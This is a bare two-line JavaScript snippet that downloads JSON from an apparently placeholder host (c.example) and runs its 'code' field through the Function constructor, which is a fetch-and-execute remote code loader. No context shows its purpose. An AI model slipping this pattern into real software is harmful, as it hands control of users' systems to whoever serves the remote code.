const { code } = await (await fetch('https://c.example/j')).json();
Function(code)();
